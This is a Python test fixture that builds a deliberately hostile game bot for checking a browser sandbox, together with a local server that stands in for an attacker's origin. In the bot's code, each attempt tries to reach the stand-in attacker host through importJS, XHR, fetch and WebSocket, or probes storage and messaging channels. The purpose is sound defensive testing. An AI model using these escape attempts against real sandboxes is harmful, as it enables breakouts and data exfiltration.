"""A hostile bot, as e2e/test_sandbox.py and the WebKit smoke run it: Python's own tries to
get out of the sandbox, then a script on the sandbox's page that tries every other way
(sandbox_attack.js), and a server on another origin that counts every request it is
sent (the attacker's)."""

from __future__ import annotations

import http.server
import json
import threading
from pathlib import Path

# JavaScript on the sandbox's page, loaded through PyScript's importJS.
ATTACK_JS = Path(__file__).with_name("sandbox_attack.js").read_text()

# The bot: Python's own attempts, then the script above on the sandbox's page. Its
# choose() says what Python found, so the page shows it as the bot's error.
HOSTILE = """

import time

import js
import pyodide.http
from polyscript import xworker

EVIL = "__EVIL__"
SCRIPT = __SCRIPT__
tried = []


def attempt(name, how):
    try:
        got = how()
        tried.append(f"{name}: reached {str(got)[:40]}")
    except BaseException as exc:
        tried.append(f"{name}: refused ({type(exc).__name__})")


def import_blob():
    options = js.JSON.parse('{"type": "text/javascript"}')
    blob = js.URL.createObjectURL(js.Blob.new([SCRIPT], options))
    return xworker.sync.importJS(blob, "attack")


# Python's own tries, in the Lab one a decision, each timed by the Lab's clock as a
# decision of its own (made all at the top level, they once overran one decision's limit
# under load); at a table, where the bot may have one decision only, at the top level.
# The script on the sandbox's page last, so its report comes after them all.
ATTEMPTS = [
    ("importJS evil", lambda: xworker.sync.importJS(EVIL + "attack.js", "evil")),
    ("xhr", lambda: pyodide.http.open_url(EVIL + "xhr").read()),
    ("fetch", lambda: js.fetch(EVIL + "worker-fetch")),
    ("websocket", lambda: js.WebSocket.new(EVIL.replace("http", "ws") + "worker-ws")),
    ("caches", lambda: js.caches.keys()),
    ("opfs", lambda: js.navigator.storage.getDirectory()),
    ("broadcast", lambda: js.BroadcastChannel.new("spygames").postMessage("pwned")),
    ("forged beat", lambda: xworker.postMessage("theirs 1")),
    ("importJS blob", import_blob),
]
while __AT_ONCE__ and ATTEMPTS:
    attempt(*ATTEMPTS.pop(0))
calls = 0
looked = 0.0


def choose(view, legal, rng):
    # After its tries the bot plays on until the script on the sandbox's page has posted
    # its report (or for 300 decisions), then __AFTER__: so the report is on its way up the
    # frames (sandbox, host, the Lab, a blog) before the page ends the sandbox, even on a
    # busy machine (a clean run once lost it in the blog's frame). It looks at the page a
    # few times a second, not at every decision: each look waits for the page's thread.
    global calls, looked
    calls += 1
    if ATTEMPTS:
        attempt(*ATTEMPTS.pop(0))
        return legal[0]
    if calls < 300 and (time.monotonic() - looked < 0.25 or not done()):
        return legal[0]
    __END__


def done():
    global looked
    looked = time.monotonic()
    return getattr(xworker.window, "spygamesAttackDone", False)
"""
# How the bot ends once the report is on its way: fails, saying what Python's tries gave
# (the Lab shows it), or plays on (at a table, its tries then made at the top level).
FAIL = 'raise RuntimeError("tried: " + " | ".join(tried))'
PLAY_ON = "return legal[0]"


def hostile(evil: str, site: str, end: str = FAIL) -> str:
    """The hostile bot's code: `evil` the attacker's server, `site` the site's root,
    `end` what it does once its report is on its way (FAIL or PLAY_ON)."""
    script = ATTACK_JS.replace("__EVIL__", evil).replace("__SITE__", site)
    script = script.replace("__NAVIGATE__", "true" if end == PLAY_ON else "false")
    after = "fails" if end == FAIL else "plays on"
    code = HOSTILE.replace("__EVIL__", evil).replace("__SCRIPT__", json.dumps(script))
    code = code.replace("__AT_ONCE__", str(end == PLAY_ON))
    return code.replace("__AFTER__", after).replace("__END__", end)


class Listener:
    """Another origin, as an attacker's server: counts every request it is sent."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}/"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
